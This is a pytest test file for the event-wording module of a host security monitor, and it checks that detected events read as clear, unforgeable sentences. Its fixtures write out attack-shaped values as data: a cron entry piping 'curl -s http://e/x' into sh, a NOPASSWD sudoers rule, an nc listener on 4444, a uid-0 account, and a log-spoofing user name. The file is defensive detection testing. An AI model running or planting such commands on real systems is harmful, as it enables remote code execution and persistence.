"""Each category of event is told in one sentence that a person grasps, and that nothing on the host can forge."""

import unicodedata
from typing import Any, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs

from shield.event import (
    Account,
    Auth,
    Category,
    Data,
    Dns,
    Event,
    File,
    Log,
    Module,
    Network,
    Persistence,
    Privilege,
    Process,
    Provenance,
    Registry,
    System,
    User,
)
from shield.exporter.wording import ASCII, fit, told, what

SECOND = 1_000_000_000
HOSTILE = "\x1b[2J \u202egpj\nALERT 0 forged, by root" + 50_000 * "A" + "\uefe9 漢字"


def event(category: Category, program: str = "/usr/bin/curl", **parts: Any) -> Event:
    """An event of what `program` did; without one, nobody knows who did it."""
    process = Process(4242, exe=program, name="comm") if program else None
    return Event(0, "web-1", category, "ALLOW", 0, "low_signal", Data(process=process, **parts), "1", "", "")


OUT = Network("tcp", "10.0.0.5", 50000, "", "203.0.113.9", 443, "example.org", True, "opened")
IN = Network("tcp", "203.0.113.7", 51022, "", "10.0.0.5", 22, "", False, "opened")
CLOSED = structs.replace(OUT, state="closed", bytes_sent=3_400_000, bytes_received=120_000, duration_ns=41 * SECOND)


@pytest.mark.parametrize(
    ("network", "program", "sentence"),
    [
        (OUT, "/usr/bin/curl", "curl connected to 203.0.113.9:443 (example.org) over tcp"),
        (OUT, "", "an unknown process connected to 203.0.113.9:443 (example.org) over tcp"),
        (IN, "/usr/sbin/sshd", "sshd accepted 203.0.113.7:51022 on port 22"),
        (structs.replace(IN, transport="udp"), "/x/dnsd", "dnsd accepted 203.0.113.7:51022 on port 22 over udp"),
        (
            structs.replace(CLOSED, count=12),
            "/usr/bin/curl",
            "curl made 12 connections to 203.0.113.9:443 (example.org) over tcp, 3.4 MB sent, 120 kB received in 41 s",
        ),
        (
            structs.replace(IN, state="closed", source_port=0, bytes_sent=0, duration_ns=90 * SECOND),
            "/usr/sbin/sshd",
            "sshd accepted 1 connection from 203.0.113.7 on port 22, 0 B sent in 1 min 30 s",
        ),
        (
            Network("udp", destination_ip="2001:db8::1", destination_port=53, initiated=True, state="failed", count=3),
            "/usr/bin/dig",
            "dig could not connect to [2001:db8::1]:53 over udp 3 times",
        ),
        (
            structs.replace(OUT, initiated=None, destination_host=""),
            "C:\\Windows\\svchost.exe",
            "svchost.exe connected to 203.0.113.9:443 from 10.0.0.5:50000 over tcp",
        ),
    ],
)
def test_connections(network: Network, program: str, sentence: str) -> None:
    assert what(event("network_connection", program, network=network)) == sentence


@pytest.mark.parametrize(
    "network",
    [
        Network("tcp", destination_ip="0.0.0.0", destination_port=4444),
        Network("tcp", source_ip="0.0.0.0", source_port=4444),
    ],
)
def test_a_listening_port_is_told_whichever_end_it_is_written_to(network: Network) -> None:
    assert what(event("network_listen", "/usr/bin/nc", network=network)) == "nc listens on 0.0.0.0:4444/tcp"


@pytest.mark.parametrize(
    ("dns", "sentence"),
    [
        (Dns("evil.example", ("203.0.113.9",), "NOERROR", "A"), "evil.example (A): 203.0.113.9"),
        (Dns("e.x", tuple(f"192.0.2.{n}" for n in range(9))), "e.x: 192.0.2.0, 192.0.2.1, 192.0.2.2 and 6 more"),
        (Dns("e.x", (), "TIMEOUT", "TXT"), "e.x (TXT): no answer"),
        (Dns("e.x", (), "NXDOMAIN"), "e.x: no such name"),
        (Dns("e.x", (), "SERVFAIL"), "e.x: no answer (SERVFAIL)"),
        (Dns("e.x", (), "NOERROR", "AAAA"), "e.x (AAAA): nothing of this type"),
        (Dns("a b: 192.0.2.1"), '"a b: 192.0.2.1": no answer'),
    ],
)
def test_questions(dns: Dns, sentence: str) -> None:
    assert what(event("dns_query", dns=dns)) == f"curl asked for {sentence}"


PASSWD = File("/etc/passwd", mode=0o100666, old_mode=0o100644, owner=1000, owner_name="alice", old_owner=0)


@pytest.mark.parametrize(
    ("category", "file", "sentence"),
    [
        (
            "file_write",
            PASSWD,
            "wrote /etc/passwd (mode 0644 -> 0666, anybody may write to it now!, owner root -> alice)",
        ),
        (
            "file_attribute",
            File("/tmp/.x", place="setuid", mode=0o104755, old_mode=0o100755),
            "changed the attributes of /tmp/.x (mode 0755 -> 4755, set-user-ID bit now set!)",
        ),
        (
            "file_attribute",
            File("/tmp/.x", place="setuid", mode=0o104755),
            "changed the attributes of /tmp/.x (set-user-ID bit now set!)",
        ),
        (
            "file_attribute",
            File("/tmp/ping", place="capabilities", mode=0o100755),
            "changed the attributes of /tmp/ping (capabilities now set!)",
        ),
        (
            "file_attribute",
            File("/srv/x", group=7, old_group=0, package="web"),
            "changed the attributes of /srv/x (group root -> 7, package web)",
        ),
        ("file_write", File("/usr/bin/su", mode=0o104755), "wrote /usr/bin/su"),
        (
            "file_write",
            File("/var/log/auth.log", place="logs", size=0, old_size=3_400_000),
            "wrote /var/log/auth.log (sensitive: logs, now empty, was 3.4 MB)",
        ),
        (
            "file_create",
            File("/usr/bin/sudo", place="programs", mode=0o104755, package_manager="dpkg"),
            "created /usr/bin/sudo (sensitive: programs, set-user-ID bit now set!), by the package manager dpkg",
        ),
        ("file_create", File("/etc/x", target="/tmp/y", mode=0o120777), "created /etc/x, a link to /tmp/y"),
        (
            "file_rename",
            File("/etc/ld.so.preload", "/tmp/my file", place="preload"),
            'renamed "/tmp/my file" to /etc/ld.so.preload (sensitive: preload)',
        ),
        ("file_rename", File("/etc/x"), "renamed a file to /etc/x"),
        (
            "file_delete",
            File("/root/.bash_history", place="history"),
            "deleted /root/.bash_history (sensitive: history)",
        ),
    ],
)
def test_files(category: Category, file: File, sentence: str) -> None:
    assert what(event(category, "/usr/bin/vim", file=file)) == f"vim {sentence}"


@pytest.mark.parametrize(
    ("registry", "sentence"),
    [
        (Registry(r"HKLM\Run\x", r"C:\x.exe -a"), r"set HKLM\Run\x: C:\x.exe -a"),
        (Registry(r"HKLM\Run\x"), r"changed HKLM\Run\x"),
        (Registry(r"HKLM\new", old_path=r"HKLM\old"), r"renamed HKLM\old to HKLM\new"),
    ],
)
def test_the_registry(registry: Registry, sentence: str) -> None:
    assert what(event("registry_change", r"C:\Windows\reg.exe", registry=registry)) == f"reg.exe {sentence}"


REMOTE = Network(source_ip="203.0.113.9", source_port=51022)
ALICE, ROOT = User(name="alice"), User(name="root")


@pytest.mark.parametrize(
    ("category", "parts", "sentence"),
    [
        (
            "auth_success",
            {"user": ALICE, "network": REMOTE, "auth": Auth("sshd", "publickey", "ED25519", "SHA256:abc", tty="ssh")},
            "alice logged in from 203.0.113.9 over ssh with a key (ED25519 SHA256:abc)",
        ),
        ("auth_success", {"user": ROOT, "auth": Auth("login", tty="tty1")}, "root logged in on tty1 (login)"),
        (
            "auth_success",
            {"user": ALICE, "auth": Auth("gdm", "fingerprint")},
            "alice logged in by fingerprint (gdm)",
        ),
        (
            "auth_success",
            {"user": ROOT, "auth": Auth("su", by_user="alice")},
            "alice authenticated to become root (su)",
        ),
        ("auth_success", {"user": User(7), "network": Network(source_host="pc")}, "uid 7 logged in from pc"),
        ("auth_success", {}, "somebody logged in"),
        (
            "auth_failure",
            {"user": ROOT, "network": REMOTE, "auth": Auth("sshd", "password")},
            "password refused for root from 203.0.113.9 (sshd)",
        ),
        (
            "auth_failure",
            {
                "user": ROOT,
                "network": REMOTE,
                "auth": Auth("sshd"),
                "log": Log("linux", fields={"event": "invalid_user"}),
            },
            "login refused for root, no such user, from 203.0.113.9 (sshd)",
        ),
        (
            "auth_failure",
            {
                "user": User(name="alice", effective_name="root"),
                "auth": Auth("sudo", by_user="alice", command="/bin/sh", reason="user NOT in sudoers"),
            },
            "alice was not allowed to become root (sudo): user NOT in sudoers: /bin/sh",
        ),
        (
            "privilege_change",
            {
                "user": User(name="alice", effective_name="root"),
                "auth": Auth("sudo", by_user="alice", command="/bin/ls"),
            },
            "alice ran as root: /bin/ls",
        ),
        ("privilege_change", {"user": ROOT, "auth": Auth("su", by_user="alice")}, "alice became root (su)"),
    ],
)
def test_identities(category: Category, parts: dict[str, Any], sentence: str) -> None:
    assert what(event(category, "", **parts)) == sentence


@pytest.mark.parametrize(
    ("account", "sentence"),
    [
        (
            Account("user", "eve", "added", 0, duplicate_of="root", privileged=True),
            "user eve added, uid 0: the same as root",
        ),
        (Account("user", "eve", "removed", 1001), "user eve removed, uid 1001"),
        (
            Account("user", "eve", "id", 0, "", "1001", "0", True, "root"),
            "uid of eve changed from 1001 to 0: the same as root",
        ),
        (Account("user", "eve", "password", old="set", new="set"), "password of user eve changed"),
        (Account("user", "www", "password", old="locked", new="set"), "user www got a password"),
        (Account("user", "eve", "password", old="set", new="none"), "user eve needs no password any more"),
        (Account("user", "eve", "password", old="set", new="locked"), "user eve has no usable password any more"),
        (Account("user", "eve", "unlocked", privileged=True), "user eve unlocked (privileged)"),
        (
            Account("user", "www", "shell", old="/usr/sbin/nologin", new="/bin/sh"),
            "shell of www changed: /usr/sbin/nologin -> /bin/sh",
        ),
        (Account("user", "eve", "changed", old="gid 1", new="gid 0"), 'user eve changed: "gid 1" -> "gid 0"'),
        (Account("group", "adm", "added", 4), "group adm added, gid 4"),
        (
            Account("group", "adm", "changed", 4, "eve", new="administrator"),
            "group adm changed for eve: none -> administrator",
        ),
        (
            Account("membership", "sudo", "member_added", 27, "alice", privileged=True),
            "alice joined group sudo (privileged)",
        ),
        (Account("membership", "sudo", "member_removed", 27, "alice"), "alice left group sudo"),
        (
            Account("sudoers", "eve", "added", new="eve ALL=(ALL) NOPASSWD: ALL", privileged=True),
            "sudo rule added (privileged): eve ALL=(ALL) NOPASSWD: ALL",
        ),
    ],
)
def test_accounts(account: Account, sentence: str) -> None:
    assert what(event("account_change", "", account=account)) == sentence


CRON = Persistence("cron", "/etc/cron.d/x", "added", "curl", "curl -s http://e/x | sh", "* * * * *", "root")


@pytest.mark.parametrize(
    ("persistence", "sentence"),
    [
        (CRON, "cron job added in /etc/cron.d/x: * * * * * root curl -s http://e/x | sh"),
        (
            Persistence(
                "ssh_key", "/root/.ssh/authorized_keys", "added", "ssh-rsa SHA256:a e@x", "", "ssh login", "root"
            ),
            "ssh key added in /root/.ssh/authorized_keys: ssh-rsa SHA256:a e@x (ssh login, as root)",
        ),
        (
            Persistence(
                "systemd_service", "/etc/systemd/system/x.service", "changed", "x.service", "/opt/x", "", "root"
            ),
            "systemd service changed in /etc/systemd/system/x.service: /opt/x (as root)",
        ),
        (
            Persistence("rc_local", "/etc/rc.local", "removed", "rc.local", "/etc/rc.local", "boot"),
            "boot script removed in /etc/rc.local: boot",
        ),
        (Persistence("pam", "/etc/pam.d/x"), "PAM setting found in /etc/pam.d/x"),
    ],
)
def test_persistence(persistence: Persistence, sentence: str) -> None:
    assert what(event("persistence_change", "/usr/bin/bash", persistence=persistence)) == sentence


@pytest.mark.parametrize(
    ("privilege", "sentence"),
    [
        (Privilege("user_id", 1000, 0, "alice"), "x became root, was alice (uid 1000)"),
        (
            Privilege("user_id", 1000, 0, gained=tuple(f"CAP_{n}" for n in range(40))),
            "x became root, was uid 1000, with CAP_0, CAP_1, CAP_2, CAP_3, CAP_4, CAP_5 and 34 more",
        ),
        (Privilege("group_id", 1000, 42, new_name="shadow"), "x took on group shadow (gid 42)"),
        (Privilege("capabilities", gained=("CAP_SYS_ADMIN",)), "x gained CAP_SYS_ADMIN"),
        (
            Privilege("ptrace", target_pid=99, target_name="sshd", target_user="root"),
            "x took hold of sshd (pid 99) of root by ptrace",
        ),
        (Privilege("ptrace", target_pid=99), "x took hold of pid 99 by ptrace"),
    ],
)
def test_privileges(privilege: Privilege, sentence: str) -> None:
    assert what(event("privilege_change", "/tmp/x", privilege=privilege)) == sentence


@pytest.mark.parametrize(
    ("module", "sentence"),
    [
        (
            Module("kernel_module", "evil", size=16_384, taints="OE"),
            "kernel module evil loaded (out of tree, unsigned, 16 kB)",
        ),
        (Module("kernel_module", "ext4"), "kernel module ext4 loaded"),
        (
            Module("kernel_module", "", taints="OZ"),
            "a kernel module that is not listed was loaded (out of tree, taint Z)",
        ),
        (Module("bpf_program", "hide", 12, "kprobe", 300), "BPF program hide loaded (kprobe, 300 B)"),
    ],
)
def test_modules(module: Module, sentence: str) -> None:
    assert what(event("module_load", "", module=module)) == sentence


@pytest.mark.parametrize(
    ("system", "sentence"),
    [
        (
            System("mount", "/proc/77", "tmpfs", "tmpfs", "rw", "/proc"),
            "tmpfs mounted on /proc/77: hides a part of /proc",
        ),
        (
            System("mount", "/etc/hosts", "/dev/sdb1:/h", "ext4", covers="/etc/hosts"),
            "/dev/sdb1:/h (ext4) mounted on /etc/hosts: hides what was there",
        ),
        (System("unmount", "/etc", "/dev/sdb1", "ext4"), "/dev/sdb1 (ext4) unmounted from /etc"),
        (System("remount", "/tmp", options="rw", old_options="rw,noexec"), "/tmp remounted: rw,noexec -> rw"),
        (System("clock_set", shift_ns=-3 * 3600 * SECOND), "clock set back by 3 h 0 min"),
        (System("clock_set", shift_ns=90 * SECOND), "clock set ahead by 1 min 30 s"),
        (System("hidden_process", "/tmp/x"), "x is hidden: it runs, but no list of processes shows it"),
        (System("deleted_program", "/tmp/x"), "x runs from a file that was deleted: /tmp/x"),
        (System("memory_program", "/memfd:x"), "x runs from memory, without a file: /memfd:x"),
    ],
)
def test_the_host(system: System, sentence: str) -> None:
    assert what(event("system_change", "/tmp/x", system=system)) == sentence


def test_what_is_odd_about_a_program_stands_behind_its_name() -> None:
    origin = Provenance("nginx", package_state="modified", packer="upx", writable=True)
    process = Process(7, exe="/usr/sbin/nginx", exe_deleted=True, provenance=origin)
    odd = structs.replace(event("network_connection"), data=Data(process=process, network=OUT))
    assert what(odd).startswith(
        "nginx (deleted from disk, not as nginx brought it, packed with upx, anybody may change it) connected to "
    )


def test_a_process_of_which_only_the_pid_is_known_is_told_by_it() -> None:
    seen = structs.replace(event("network_connection"), data=Data(process=Process(7), network=IN))
    assert what(seen) == "pid 7 accepted 203.0.113.7:51022 on port 22"


@pytest.mark.parametrize(
    ("category", "log", "sentence"),
    [
        (
            "account_change",
            Log("linux", provider="useradd", message="new user: name=eve"),
            "useradd: new user: name=eve",
        ),
        ("module_load", Log("linux", provider="auditd", code="KERN_MODULE"), "auditd KERN_MODULE"),
        ("log_record", Log("linux", service="syslog", message="x\ny"), "syslog: x\ny"),
    ],
)
def test_an_event_that_only_a_log_tells_of_is_told_in_its_words(category: Category, log: Log, sentence: str) -> None:
    assert what(event(category, log=log)) == f"{category.replace('_', ' ')}: {sentence}"


def test_on_one_line_the_process_is_named_where_the_sentence_does_not() -> None:
    assert told(event("network_listen", network=IN)).endswith("  (pid 4242)")
    added = Account("user", "eve", "added", 1001)
    assert told(event("account_change", "/usr/sbin/useradd", account=added)).endswith("  (useradd, pid 4242)")
    assert told(event("account_change", "", account=added)) == "user eve added, uid 1001"


def test_a_name_can_not_pretend_to_be_the_rest_of_a_sentence() -> None:
    forged = User(name='root from 192.0.2.1 (sshd)" x')
    refused = event("auth_failure", user=forged, network=REMOTE, auth=Auth("sshd", "password"))
    assert what(refused) == 'password refused for "root from 192.0.2.1 (sshd)\\" x" from 203.0.113.9 (sshd)'
    renamed = event("file_rename", file=File("/etc/passwd", "/tmp/a to /tmp/b\n"))
    assert what(renamed) == 'curl renamed "/tmp/a to /tmp/b\n" to /etc/passwd'


PARTS: dict[str, Any] = {
    "network": Network,
    "dns": Dns,
    "file": File,
    "registry": Registry,
    "auth": Auth,
    "account": Account,
    "persistence": Persistence,
    "privilege": Privilege,
    "module": Module,
    "system": System,
    "log": Log,
    "user": User,
}


def filled(kind: Any, text: str) -> Any:
    """A part of which every text is `text`, and every choice the first there is."""
    values: dict[str, Any] = {}
    for field in structs.fields(kind):
        choices = [each for each in get_args(field.type) if isinstance(each, str)]
        if field.type is str:
            values[field.name] = text
        elif field.type == tuple[str, ...]:
            values[field.name] = (text,) * 50
        elif choices:
            values[field.name] = next(filter(None, choices))
    return kind(**values)


@pytest.mark.parametrize("category", get_args(Category))
def test_hostile_values_stay_on_one_bounded_line(category: Category) -> None:
    parts = {name: filled(kind, HOSTILE) for name, kind in PARTS.items()}
    process = Process(1, exe=HOSTILE, name=HOSTILE, provenance=filled(Provenance, HOSTILE))
    hostile = structs.replace(event(category), data=Data(process=process, **parts))
    for width in (20, 100, 4000):
        shown = fit(told(hostile), width, ASCII)
        assert len(shown) <= width
        assert shown.isascii()
        assert not [each for each in shown if unicodedata.category(each) == "Cc"]
    if category not in ("process_start", "process_exit", "heartbeat", "loss", "tamper"):
        assert len(what(hostile)) < 2000


@pytest.mark.parametrize("category", get_args(Category))
def test_each_category_reads_well_without_any_part(category: Category) -> None:
    assert what(event(category, "")) in (category.replace("_", " "), "somebody logged in", "login refused for somebody")


@given(st.text(), st.sampled_from(["file_create", "file_write", "file_delete"]))
def test_a_path_is_one_word_or_in_quotes(path: str, category: Category) -> None:
    sentence = what(event(category, file=File(path)))
    word = sentence.split(" ", 2)[2]
    assert word == path or (word[0] == word[-1] == '"' and '"' not in word[1:-1].replace('\\"', ""))
